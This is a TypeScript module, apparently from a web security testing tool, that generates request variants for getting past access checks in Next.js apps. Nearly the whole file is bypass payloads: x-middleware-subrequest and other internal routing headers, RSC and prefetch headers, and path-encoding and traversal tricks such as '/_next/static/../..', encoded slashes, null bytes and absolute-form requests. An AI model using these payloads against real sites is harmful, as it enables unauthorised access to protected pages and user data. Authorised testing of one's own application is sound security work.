import type { WireRequest } from "./wire";

/** One way to write a request for a page, meant to slip past whatever looks at addresses. */
export interface Spelling {
  name: string;
  request: WireRequest;
}

const subrequests = ["middleware", "src/middleware", "proxy", "src/proxy", "app/proxy"].flatMap((name) => [
  name,
  Array.from({ length: 5 }, () => name).join(":"),
]);

const tree = encodeURIComponent(JSON.stringify(["", { children: ["__PAGE__", {}] }, null, null, true]));

/** Headers by which Next.js is asked for less than a page, or told that it has looked already. */
const headerSets: Record<string, Record<string, string>> = {
  ...Object.fromEntries(
    subrequests.map((value) => [`x-middleware-subrequest: ${value}`, { "x-middleware-subrequest": value }]),
  ),
  "x-middleware-prefetch": { "x-middleware-prefetch": "1" },
  "x-middleware-invoke": {
    "x-middleware-invoke": "1",
    "x-middleware-next": "1",
    "x-invoke-path": "/sign-in",
  },
  "x-middleware-rewrite": { "x-middleware-rewrite": "/sign-in", "x-middleware-override-headers": "x-rx-org" },
  rsc: { rsc: "1" },
  "rsc with tree": { rsc: "1", "next-router-state-tree": tree },
  "rsc prefetch": { rsc: "1", "next-router-prefetch": "1", "next-router-state-tree": tree },
  "segment prefetch, tree": {
    rsc: "1",
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/_tree",
  },
  "segment prefetch, page": {
    rsc: "1",
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/__PAGE__",
  },
  "next-url": { rsc: "1", "next-url": "/sign-in" },
  "x-nextjs-data": { "x-nextjs-data": "1" },
  "x-original-url": { "x-original-url": "/sign-in", "x-rewrite-url": "/sign-in" },
  "x-matched-path": { "x-matched-path": "/sign-in", "x-now-route-matches": "1=members" },
};

/** Ways to write the address itself. `at` is a path that starts with a slash. */
const addresses: Record<string, (at: string) => string> = {
  plain: (at) => at,
  ".rsc": (at) => `${at === "/" ? "/index" : at}.rsc`,
  "?_rsc=": (at) => `${at}?_rsc=1abcd`,
  "segment file": (at) => `${at === "/" ? "/index" : at}.segments/_tree.segment.rsc`,
  "data file": (at) => `/_next/data/build${at === "/" ? "/index" : at}.json`,
  "//": (at) => `/${at}`,
  "///": (at) => `//${at}`,
  "%2f": (at) => `/%2f${at.slice(1)}`,
  "%2F inside": (at) => `/x%2F..${at}`,
  "encoded letter": (at) => (at === "/" ? "/%20" : `/%${at.charCodeAt(1).toString(16)}${at.slice(2)}`),
  "trailing slash": (at) => `${at}/`,
  "dot segment": (at) => `/.${at}`,
  "up segment": (at) => `/sign-in/..${at}`,
  "encoded up": (at) => `/sign-in/%2e%2e${at}`,
  "encoded up, slash": (at) => `/sign-in%2f..${at}`,
  "below static": (at) => `/_next/static/../..${at}`,
  "below static, encoded": (at) => `/_next/static/..%2f..${at.replaceAll("/", "%2f")}`,
  "below image": (at) => `/_next/image/../..${at}`,
  "below icon": (at) => `/icon.svg/..${at}`,
  "below icon, encoded": (at) => `/icon.svg%2f..${at}`,
  "locale ro": (at) => `/ro${at}`,
  "locale en": (at) => `/en${at}`,
  "matrix parameter": (at) => `${at};a=b`,
  "matrix parameter first": (at) => `/;a=b${at}`,
  "upper case": (at) => at.toUpperCase(),
  "null byte": (at) => `${at}%00`,
  "null byte, public": (at) => `${at}%00/sign-in`,
  space: (at) => `${at}%20`,
  backslash: (at) => `/\\${at.slice(1)}`,
  "route parameter": (at) => `${at}?nxtPtoken=x&nxtPid=x&__nextLocale=en&__nextDataReq=1`,
  "stylesheet suffix": (at) => `${at}/x.css`,
};

/** All spellings of one page on one host. */
export function spellings(at: string, host: string): Spelling[] {
  const upgrade = {
    connection: "Upgrade",
    upgrade: "websocket",
    "sec-websocket-version": "13",
    "sec-websocket-key": "AAAAAAAAAAAAAAAAAAAAAA==",
  };
  return [
    ...Object.entries(headerSets).map(([name, headers]) => ({ name, request: { path: at, host, headers } })),
    ...Object.entries(addresses).map(([name, write]) => ({ name, request: { path: write(at), host } })),
    ...Object.entries(addresses)
      .slice(1, 4)
      .map(([name, write]) => ({
        name: `${name} as rsc`,
        request: { path: write(at), host, headers: { rsc: "1" } },
      })),
    { name: "absolute form", request: { path: `http://${host}${at}`, host } },
    { name: "absolute form, other host", request: { path: `http://sign-in.invalid${at}`, host } },
    { name: "absolute form, upgrade", request: { path: `http://${host}${at}`, host, headers: upgrade } },
    { name: "upgrade", request: { path: at, host, headers: upgrade } },
    { name: "HEAD", request: { path: at, host, method: "HEAD" } },
    { name: "OPTIONS", request: { path: at, host, method: "OPTIONS" } },
  ];
}
